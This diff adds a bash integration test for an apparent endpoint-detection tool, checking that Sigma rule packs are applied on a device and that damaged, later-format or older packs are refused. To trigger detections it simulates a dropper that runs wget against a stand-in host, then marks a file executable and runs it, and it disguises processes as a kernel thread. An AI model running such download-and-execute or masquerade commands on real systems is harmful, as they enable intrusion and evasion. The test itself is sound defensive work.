@@ -1,0 +1,77 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+# Sigma rules on the device: what really runs is judged by the pack that is installed, an operator's own pack takes its
+# place over the link, and one that is damaged, of a later format or signed by nobody is refused and changes nothing.
+
+. "$(dirname "$0")/lib.sh"
+export WORLD_USERNS=no RULES=yes		# a user namespace may load no BPF
+world_enter "$@"
+needs_bpf
+[ -e /usr/local/share/caltrop/caltrop-rules.pack ] || skip "no pack was built"
+cast
+guard_conf <<-EOF
+	[process]
+	enabled = yes
+EOF
+fleet_start
+
+rules() { on device caltrop local rules -c $CONF --json; }
+rule_has() { rules | jq -e "[.rules[] | select(.title | test(\"$1\"))][0] | $2" >/dev/null; }	# TITLE JQ
+pack_is() { rules | jq -e ".pack | $1" >/dev/null; }
+incident_has() { desk incident list --limit 0 --json | jq -e ".items | any($1)" >/dev/null; }
+
+check "the installed pack is in use" pack_is '.about == "the installed pack" and .active >= 60'
+
+# A dropper: fetched, made executable and run. There is nothing to fetch, which makes no difference.
+on device sh -c 'cd /tmp; cp /bin/true fetched; wget -q http://192.0.2.99/x -O /tmp/x -T 1 -t 1; chmod +x /tmp/fetched; /tmp/fetched' \
+	>/dev/null 2>&1
+wait_for 10 "the three steps are one correlation" rule_has "Fetched, made executable and run" '.matched >= 1'
+wait_for 10 "the operator has the incident" incident_has '.title | test("Fetched, made executable and run")'
+
+# A storm is one incident.
+on device bash -c 'for i in $(seq 30); do (exec -a "[kworker/0:1]" /bin/true); done'
+wait_for 10 "thirty matches" rule_has "pretends to be a kernel thread" '.matched >= 30'
+one_incident() { [ "$(desk incident list --limit 0 --json | jq '[.items[] | select(.title | test("kernel thread"))] | length')" = 1 ]; }
+wait_for 10 "are one incident" one_incident
+
+# A pack of the operator's own.
+mkdir -p /tmp/own
+cat >/tmp/own/rule.yml <<-'EOF'
+	title: The word of the day
+	id: 0a1b2c3d-0000-4000-8000-000000000001
+	status: test
+	author: An operator
+	logsource:
+	    product: linux
+	    category: process_creation
+	detection:
+	    selection:
+	        CommandLine|contains: word-of-the-day
+	    condition: selection
+	level: high
+EOF
+caltrop rule build /tmp/own -o /tmp/own.pack --name own --version 1 || fail "the pack does not build"
+offer() { desk object offer "$1" --kind rules --name pack --device device --version "$2" --json | jq -r .id; }
+object_is() { desk object show "$1" --json | jq -e ".targets[0].state == \"$2\"" >/dev/null; }
+id=$(offer /tmp/own.pack 1)
+wait_for 20 "the device keeps it" object_is "$id" done
+wait_for 10 "and uses it" pack_is '.name == "own" and .about == "the service'"'"'s pack"'
+on device env true word-of-the-day
+wait_for 10 "its rule finds what runs" incident_has '.rule == "0a1b2c3d-0000-4000-8000-000000000001"'
+ok "a pack goes to a device and judges what runs there"
+
+# What is no pack.
+head -c 200 /tmp/own.pack >/tmp/cut.pack
+id=$(offer /tmp/cut.pack 2)
+wait_for 20 "bytes are bytes: the device keeps them" object_is "$id" done
+wait_for 10 "health says why they are no pack" health_says "the service's pack is not used: it"
+check "the one before is in use" pack_is '.name == "own"'
+{ head -c 4 /tmp/own.pack; printf '\377\377'; tail -c +7 /tmp/own.pack; } >/tmp/later.pack
+id=$(offer /tmp/later.pack 3)
+wait_for 20 "one of a later format" object_is "$id" done
+wait_for 10 "is named" health_says "the service's pack is not used: it.*format"
+check "the one before is in use" pack_is '.name == "own"'
+id=$(offer /tmp/own.pack 2)
+wait_for 20 "an older version is refused" object_is "$id" refused
+other=$(desk object offer /tmp/own.pack --kind rules --name other --device device --version 9 --json | jq -r .id)
+wait_for 20 "and so is another name" object_is "$other" refused
